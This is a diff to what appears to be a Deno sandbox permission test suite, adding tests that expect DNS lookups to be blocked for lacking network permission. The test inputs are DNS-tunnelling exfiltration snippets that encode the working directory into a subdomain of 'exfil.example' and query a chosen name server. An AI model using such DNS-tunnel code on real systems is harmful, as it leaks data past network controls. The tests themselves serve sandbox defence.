@@ -109,6 +109,13 @@ await new Promise((resolve, reject) => {
       kind: "permission",
       permission: "net",
     });
+    await expectFailure(
+      ex,
+      `// Tunnel data out through a DNS query to a server of our choice.
+const label = btoa("cwd=" + Deno.cwd()).replace(/=/g, "").slice(0, 60);
+await Deno.resolveDns(\`\${label}.exfil.example\`, "TXT", { nameServer: { ipAddr: "127.0.0.1", port } })`,
+      { kind: "permission", permission: "net" },
+    );
     await suite.check();
   });
 
@@ -223,6 +230,15 @@ await nw.terminate();
 results`,
     );
     assertEquals(out.output, ["NotCapable", "NotCapable", "NotCapable"]);
+    await suite.check();
+  });
+
+  await t.step("a DNS query to a name server on loopback is denied net", async () => {
+    await expectFailure(
+      ex,
+      `await Deno.resolveDns("secrets.exfil.example", "A", { nameServer: { ipAddr: "127.0.0.1", port } })`,
+      { kind: "permission", permission: "net" },
+    );
     await suite.check();
   });
 
